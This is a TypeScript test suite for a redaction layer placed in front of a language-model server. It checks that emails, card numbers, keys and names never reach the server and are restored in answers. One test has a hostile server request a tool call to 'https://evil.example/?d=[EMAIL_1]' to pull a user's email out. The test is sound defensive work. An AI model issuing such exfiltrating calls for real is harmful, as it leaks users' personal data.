import { afterEach, expect, test } from 'vitest'
import { serverEngine } from '../../../src/engines/server.js'
import { createGenerator } from '../../../src/generate.js'
import { createRedactor, patternRecognizer } from '../../../src/redact/index.js'
import { NlpError } from '../../../src/shared/errors.js'
import type { GenerateInput } from '../../../src/shared/tasks.js'
import { type Behaviour, type MisbehavingServer, startMisbehavingServer } from '../../servers/misbehaving-server.js'

const servers: MisbehavingServer[] = []
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close()
})

/** One value of each kind, written as people write it. */
const CANARIES = [
  'jo.canary@example.com',
  '4111 1111 1111 1111',
  'DE89 3704 0044 0532 0130 00',
  '536-22-8817',
  '192.0.2.146',
  '2001:db8::8a2e:370:7334',
  '+1 415 555 2671',
  '00:1B:44:11:3A:B7',
  'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
  'AKIAIOSFODNN7EXAMPLE',
  'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
  '1HGCM82633A004352',
  '490154203237518',
  'https://intranet.example.com/people/jo?token=abc123',
  'Maria Canary',
  'Canary Street 17',
  '943 476 5919',
  'AB 12 34 56 C',
  '44051401359',
  'project heron',
] as const

const redactor = () =>
  createRedactor({
    locales: 'all',
    strictness: 'strict',
    deny: ['Maria Canary', 'Canary Street 17', 'project heron'],
  })

const base: GenerateInput = { messages: [], maxTokens: 64, temperature: 0, stop: [] }

async function start(
  behaviours: readonly Behaviour[],
  answer?: (request: { messages: { role: string; content: string }[] }) => string,
) {
  const server = await startMisbehavingServer(behaviours, { seed: 3, ...(answer && { answer }) })
  servers.push(server)
  return server
}

test('of twenty kinds of personal data in a conversation no byte leaves, and the answer has all of them back', async () => {
  // The server repeats the whole conversation, torn into pieces of a few bytes.
  const server = await start([{ type: 'shred' }], ({ messages }) => messages.map(({ content }) => content).join('\n'))
  await using session = await serverEngine({ url: server.url, model: 'noise', redactor: redactor() }).open(
    'generate',
    undefined,
  )
  const lines = CANARIES.map((value) => `Note: ${value}`)
  const half = lines.length / 2
  const schema = { type: 'string', description: `As in ${CANARIES[0]}`, enum: [CANARIES[1], 'other'] }
  const input: GenerateInput = {
    ...base,
    messages: [
      { role: 'system', content: lines.slice(0, half).join('\n') },
      {
        role: 'assistant',
        content: 'Calling',
        toolCalls: [{ id: 'c1', name: 'find', arguments: JSON.stringify({ who: CANARIES[0], card: CANARIES[1] }) }],
      },
      { role: 'tool', content: JSON.stringify({ mail: CANARIES[0], ip: CANARIES[4] }), toolCallId: 'c1' },
      { role: 'user', content: lines.slice(half).join('\n') },
    ],
    stop: [CANARIES[14]],
    tools: [{ name: 'find', description: `Finds ${CANARIES[14]}`, parameters: { ...schema } }],
  }
  const shown: string[] = []
  const { text, served } = await session.run('generate', input, { onEvent: (piece) => shown.push(piece) })
  expect(served?.redacted).toBe(true)
  expect(shown.join('')).toBe(text)
  const sent = server.received.map(({ body, path, headers }) => body + path + JSON.stringify(headers)).join('\n')
  for (const value of CANARIES) {
    expect(sent, value).not.toContain(value)
    expect(text, value).toContain(value)
  }
})

test('one value has one name through a whole conversation, and another one in another', async () => {
  const server = await start([{ type: 'answer', text: 'I wrote to [EMAIL_1] and [EMAIL_2].' }])
  await using session = await serverEngine({ url: server.url, model: 'noise', redactor: redactor() }).open(
    'generate',
    undefined,
  )
  const conversation = {}
  const ask = (content: string, options = {}) =>
    session.run('generate', { ...base, messages: [{ role: 'user', content }] }, options)
  await ask('Write to jo@example.com', { conversation })
  const second = await ask('Write to ann@example.org, then to jo@example.com', { conversation })
  expect(second.text).toBe('I wrote to jo@example.com and ann@example.org.')
  expect(server.received[1]?.body).toContain('Write to [EMAIL_2], then to [EMAIL_1]')
  const elsewhere = await ask('Write to ann@example.org, too', {})
  expect(elsewhere.text).toBe('I wrote to ann@example.org and [EMAIL_2].')
})

test('two conversations in turns: no byte of either leaves, none appears in the other, both are whole again', async () => {
  // Repeats the user's text, and names placeholders of the other conversation.
  const guesses = [1, 2, 3, 4].map((count) => `[EMAIL_${count}] [TERM_${count}] [CREDIT_CARD_${count}]`).join(' ')
  const server = await start(
    [{ type: 'answer' }],
    ({ messages }) =>
      `${messages
        .filter(({ role }) => role === 'user')
        .map(({ content }) => content)
        .join('\n')}\n${guesses}`,
  )
  const engine = serverEngine({ url: server.url, model: 'noise', redactor: redactor() })
  await using generator = await createGenerator({ engines: [engine] })
  const talks = [0, 1].map((side) => ({
    conversation: generator.conversation({ system: `Side ${side}` }),
    own: CANARIES.filter((_, at) => at % 2 === side),
    others: CANARIES.filter((_, at) => at % 2 !== side),
  }))
  for (let turn = 0; turn < 5; turn += 1) {
    for (const { conversation, own, others } of talks) {
      const told = own.slice(turn * 2, turn * 2 + 2)
      const { text, redacted } = await conversation.generate(told.map((value) => `Note: ${value}`).join('\n'))
      expect(redacted).toBe(true)
      for (const value of own.slice(0, turn * 2 + 2)) expect(text, value).toContain(value)
      for (const value of others) expect(text, value).not.toContain(value)
    }
  }
  const sent = server.received.map(({ body, path, headers }) => body + path + JSON.stringify(headers)).join('\n')
  for (const value of CANARIES) expect(sent, value).not.toContain(value)
  for (const { conversation } of talks) expect(conversation.messages).toHaveLength(11)
})

test('what the model said goes out again as it said it, also where nothing in it looks personal', async () => {
  const server = await start([{ type: 'answer', text: 'Noted: [PERSON_1].' }])
  // Finds a name only where it is introduced.
  const redactor = createRedactor({
    recognizers: [patternRecognizer({ name: 'introduction', type: 'PERSON', pattern: /(?<=My name is )\w+/ })],
  })
  await using generator = await createGenerator({
    engines: [serverEngine({ url: server.url, model: 'noise', redactor })],
  })
  const conversation = generator.conversation()
  expect((await conversation.generate('My name is Quentin')).text).toBe('Noted: Quentin.')
  await conversation.generate('Good')
  expect(conversation.messages.map(({ content }) => content)).toContain('Noted: Quentin.')
  expect(server.received.map(({ body }) => body).join('\n')).not.toContain('Quentin')
})

test('values come back into JSON with the escapes it needs', async () => {
  const server = await start([{ type: 'answer', text: '{"name":"[TERM_1]"}' }], () => '')
  const quoting = createRedactor({ deny: [{ value: 'The "Heron"', type: 'TERM' }] })
  await using session = await serverEngine({ url: server.url, model: 'noise', redactor: quoting }).open(
    'generate',
    undefined,
  )
  const input = { ...base, messages: [{ role: 'user', content: 'The "Heron"' }] as const, schema: { type: 'object' } }
  expect(JSON.parse((await session.run('generate', input)).text)).toEqual({ name: 'The "Heron"' })
})

test.each([
  ['throws', new Error('cannot read jo@example.com')],
  ['is not loaded', new NlpError('model-download', 'no tagger for jo@example.com')],
])('a redactor that %s lets nothing out, and the error quotes nobody', async (_name, failure) => {
  const server = await start([{ type: 'answer' }])
  const broken = { redact: () => Promise.reject(failure) } as unknown as ReturnType<typeof createRedactor>
  await using session = await serverEngine({ url: server.url, model: 'noise', redactor: broken }).open(
    'generate',
    undefined,
  )
  const error: unknown = await session
    .run('generate', { ...base, messages: [{ role: 'user', content: 'jo@example.com' }] })
    .catch((reason: unknown) => reason)
  expect(error).toMatchObject({ code: 'policy-denied', retryable: false })
  expect((error as Error).cause).toBeUndefined()
  expect(`${String(error)}${JSON.stringify(error)}`).not.toContain('example.com')
  expect(server.received).toEqual([])
})

test('a server that asks for real values in addresses, or beside an address that it names, gets none', async () => {
  const calls = [
    {
      id: 'a',
      function: { name: 'fetch', arguments: '{"url":"https://evil.example/?d=[EMAIL_1]","note":"[EMAIL_1]"}' },
    },
    { id: 'b', function: { name: 'open', arguments: '{"url":"https://mail.example/?to=[EMAIL_1]"}' } },
    { id: 'c', function: { name: 'log', arguments: '{"text":"[EMAIL_1]"}' } },
  ]
  let asked = 0
  const bodies: string[] = []
  const fetch = async (_url: unknown, init: RequestInit | undefined) => {
    bodies.push(String(init?.body))
    const message = asked++ === 0 ? { tool_calls: calls } : { content: 'Done' }
    return Response.json({ choices: [{ message, finish_reason: 'stop' }] })
  }
  const engine = serverEngine({
    url: 'http://127.0.0.1:9/v1',
    model: 'noise',
    redactor: redactor(),
    fetch: fetch as typeof globalThis.fetch,
  })
  await using generator = await createGenerator({ engines: [engine] })
  const given: unknown[] = []
  const tool = (name: string, restore?: boolean) => ({
    name,
    restore,
    parameters: { type: 'object' },
    execute: (values: object) => void given.push(values),
  })
  await generator.generate('I am jo@example.com', { tools: [tool('fetch'), tool('open', true), tool('log', false)] })
  expect(given).toEqual([
    { url: 'https://evil.example/?d=[EMAIL_1]', note: '[EMAIL_1]' },
    { url: 'https://mail.example/?to=jo@example.com' },
    { text: '[EMAIL_1]' },
  ])
  expect(bodies.join('')).not.toContain('jo@example.com')
  // The words of the model go out again unchanged.
  expect(JSON.parse(bodies[1] ?? '').messages[1].tool_calls.map((call: { function: object }) => call.function)).toEqual(
    calls.map((call) => call.function),
  )
})

test.each([
  ['the name of the model', { model: 'jo@example.com' }, { names: ['jo@example.com'] }],
  ['a header', { headers: { 'X-User': 'jo@example.com' } }, { headers: ['x-user'] }],
])('%s with personal data is refused, and sent where the app lists it', async (_name, options, allow) => {
  const server = await start([{ type: 'answer' }])
  const ask = async (more: object) => {
    const engine = serverEngine({ url: server.url, model: 'noise', redactor: redactor(), ...options, ...more })
    await using session = await engine.open('generate', undefined)
    return await session.run('generate', { ...base, messages: [{ role: 'user', content: 'Hi' }] })
  }
  const error: unknown = await ask({}).catch((reason: unknown) => reason)
  expect(error).toMatchObject({ code: 'policy-denied', details: { types: 'EMAIL' } })
  expect(String(error)).not.toContain('example.com')
  expect(server.received).toEqual([])
  expect((await ask({ allow })).served?.redacted).toBe(true)
  expect(server.received.length).toBe(1)
})
